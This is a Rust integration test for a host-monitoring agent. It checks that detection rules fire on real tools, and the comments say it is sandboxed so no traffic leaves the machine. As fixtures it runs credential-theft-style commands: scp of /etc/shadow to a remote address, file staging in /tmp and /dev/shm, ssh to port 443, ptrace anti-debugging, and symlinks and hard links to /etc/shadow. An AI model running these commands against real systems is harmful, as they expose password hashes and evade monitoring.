//! End to end as root: the command-and-control rules and the rules that
//! close gaps against Falco's default rules fire on the real tools, with
//! the process that did it. Nothing leaves the host: every scp, sftp and
//! ssh goes to a port nothing listens on (loopback port 1) or runs in a
//! network namespace of its own with no route; links are made in a scratch
//! directory and removed; debugfs runs in a podman container on /dev/null.

use std::path::Path;
use std::process::Stdio;
use std::time::Duration;

mod common;
use common::Cleanup;
use common::RulesAgent as Agent;

/// Runs a command to completion and returns its pid (the exec'd program's).
fn run(argv: &[&str]) -> u32 {
    common::run_quiet(common::argv(argv).stdin(Stdio::null())).0
}

fn tool(p: &str) -> &str {
    assert!(Path::new(p).exists(), "{p} is needed by this test");
    p
}

/// ssh options that keep a client from reading the host's configuration
/// or asking anything.
const SSH_OPTS: [&str; 6] = [
    "-F",
    "/dev/null",
    "-o",
    "BatchMode=yes",
    "-o",
    "ConnectTimeout=1",
];

#[test]
fn c2_and_falco_gap_rules_fire_on_real_tools() {
    let Some(agent) = Agent::start("c2_and_falco_gap_rules_fire_on_real_tools", None) else {
        return;
    };
    std::thread::sleep(Duration::from_millis(500));
    let dir = std::env::temp_dir().join(vigil_tests::unique_marker("vg-c2"));
    std::fs::create_dir_all(&dir).unwrap();
    let _c = Cleanup(vec![dir.clone()]);
    let me = std::process::id();

    // scp pushing a file staged in /tmp (port 1 on loopback refuses)
    let staged = dir.join("payload");
    std::fs::write(&staged, "x\n").unwrap();
    let scp = tool("/usr/bin/scp");
    let mut argv = vec![scp];
    argv.extend(SSH_OPTS);
    argv.extend([
        "-P",
        "1",
        staged.to_str().unwrap(),
        "nobody@127.0.0.1:/srv/in/",
    ]);
    let pid = run(&argv);
    let a = agent.expect("remote_copy_via_staging_dir", |a| {
        a["process"]["pid"] == pid
    });
    assert_eq!(a["process"]["name"], "scp", "{a}");
    assert_eq!(a["process"]["parent"]["pid"], me, "{a}");

    // sftp pulling into /dev/shm
    let sftp = tool("/usr/bin/sftp");
    let mut argv = vec![sftp];
    argv.extend(SSH_OPTS);
    argv.extend(["-P", "1", "nobody@127.0.0.1:/srv/tool", "/dev/shm/"]);
    let pid = run(&argv);
    let a = agent.expect("remote_copy_via_staging_dir", |a| {
        a["process"]["pid"] == pid
    });
    assert_eq!(a["process"]["name"], "sftp", "{a}");

    // an ordinary copy between project folders raises nothing (checked
    // after the next alert, which comes later in the event stream)
    let mut argv = vec![scp];
    argv.extend(SSH_OPTS);
    argv.extend(["-P", "1", "Cargo.toml", "nobody@127.0.0.1:/srv/www/"]);
    let plain = run(&argv);

    // scp of /etc/shadow (nothing is sent: the connection is refused)
    let mut argv = vec![scp];
    argv.extend(SSH_OPTS);
    argv.extend(["-P", "1", "/etc/shadow", "nobody@127.0.0.1:"]);
    let pid = run(&argv);
    let a = agent.expect("credentials_copied_over_ssh", |a| {
        a["process"]["pid"] == pid
    });
    assert_eq!(a["process"]["parent"]["pid"], me, "{a}");
    let recs = agent.out.records();
    assert!(
        !recs.iter().any(|a| a["process"]["pid"] == plain),
        "a plain scp alerted: {recs:?}"
    );

    // ssh out to port 443, in a network namespace with no route: the
    // connect fails at once and no packet leaves (unshare execs ssh in
    // place: same pid); first a host name, whose lookup is a UDP connect
    // to the resolver's port 53 (no alert), then port 443 by address
    let mut argv = vec![tool("/usr/bin/unshare"), "--net", tool("/usr/bin/ssh")];
    argv.extend(SSH_OPTS);
    argv.extend(["-p", "2222", "nobody@vigil-test.invalid", "true"]);
    let lookup = run(&argv);
    let mut argv = vec![tool("/usr/bin/unshare"), "--net", tool("/usr/bin/ssh")];
    argv.extend(SSH_OPTS);
    argv.extend(["-p", "443", "nobody@198.51.100.7", "true"]);
    let pid = run(&argv);
    let a = agent.expect("ssh_to_web_or_dns_port", |a| a["process"]["pid"] == pid);
    assert_eq!(a["destination"]["port"], 443, "{a}");
    assert_eq!(a["destination"]["ip"], "198.51.100.7", "{a}");
    assert_eq!(a["network"]["transport"], "tcp", "{a}");
    assert_eq!(a["process"]["name"], "ssh", "{a}");
    let recs = agent.out.records();
    assert!(
        !recs.iter().any(|a| a["process"]["pid"] == lookup),
        "an ssh name lookup alerted: {recs:?}"
    );

    // gdb starting a program (its child asks to be traced): no alert;
    // a program doing it on its own: an alert
    let gdb = run(&[
        tool("/usr/bin/gdb"),
        "-batch",
        "-nx",
        "-ex",
        "run",
        "--args",
        "/bin/true",
    ]);
    let pid = run(&[
        tool("/usr/bin/python3"),
        "-c",
        "import ctypes; assert ctypes.CDLL(None).ptrace(0, 0, None, None) == 0",
    ]);
    let a = agent.expect("ptrace_traceme_anti_debug", |a| a["process"]["pid"] == pid);
    assert_eq!(a["vigil"]["ptrace"]["request"], "PTRACE_TRACEME", "{a}");
    assert_eq!(a["process"]["parent"]["pid"], me, "{a}");
    let recs = agent.out.records();
    assert!(
        !recs
            .iter()
            .any(|a| a["rule"]["id"] == "ptrace_traceme_anti_debug"
                && (a["process"]["pid"] == gdb || a["process"]["parent"]["pid"] == gdb)),
        "gdb's own tracee alerted: {recs:?}"
    );

    // a symlink to /etc/shadow and a hard link to it (same filesystem)
    let sl = dir.join("innocent.txt");
    let pid = run(&[
        tool("/usr/bin/ln"),
        "-s",
        "/etc/shadow",
        sl.to_str().unwrap(),
    ]);
    let a = agent.expect("symlink_to_sensitive_file", |a| a["process"]["pid"] == pid);
    assert_eq!(a["file"]["path"], sl.to_str().unwrap(), "{a}");
    assert_eq!(a["vigil"]["file_change"]["target"], "/etc/shadow", "{a}");
    assert_eq!(a["process"]["name"], "ln", "{a}");
    let hl = dir.join("hl");
    let same_fs = {
        use std::os::unix::fs::MetadataExt;
        std::fs::metadata("/etc/shadow").unwrap().dev() == std::fs::metadata(&dir).unwrap().dev()
    };
    assert!(
        same_fs,
        "this test needs {} on the filesystem of /etc",
        dir.display()
    );
    let pid = run(&[tool("/usr/bin/ln"), "/etc/shadow", hl.to_str().unwrap()]);
    assert!(hl.exists(), "ln made no hard link");
    let a = agent.expect("hardlink_to_sensitive_file", |a| a["process"]["pid"] == pid);
    assert_eq!(a["file"]["path"], hl.to_str().unwrap(), "{a}");
    assert_eq!(a["vigil"]["file_change"]["source"], "/etc/shadow", "{a}");
    std::fs::remove_file(&hl).unwrap();

    // debugfs in a podman container (the host's debugfs and its libraries
    // mounted read-only into the busybox image; it is given /dev/null, not
    // a disk)
    let mounts = [
        format!("{}:/usr/sbin/debugfs:ro", tool("/usr/sbin/debugfs")),
        format!(
            "{}:/lib/x86_64-linux-gnu:ro",
            tool("/usr/lib/x86_64-linux-gnu/libext2fs.so.2").trim_end_matches("/libext2fs.so.2")
        ),
        format!(
            "{}:/lib64:ro",
            tool("/usr/lib64/ld-linux-x86-64.so.2").trim_end_matches("/ld-linux-x86-64.so.2")
        ),
    ];
    let opts: Vec<&str> = mounts.iter().flat_map(|m| ["-v", m.as_str()]).collect();
    let c = vigil_tests::PodmanContainer::run_with(
        "debugfs",
        &opts,
        &["/usr/sbin/debugfs", "-R", "stats", "/dev/null"],
    )
    .expect("podman run debugfs");
    let a = agent.expect("debugfs_in_container", |a| a["container"]["id"] == c.id());
    assert_eq!(a["process"]["name"], "debugfs", "{a}");
    assert_eq!(
        a["process"]["command_line"], "/usr/sbin/debugfs -R stats /dev/null",
        "{a}"
    );
}
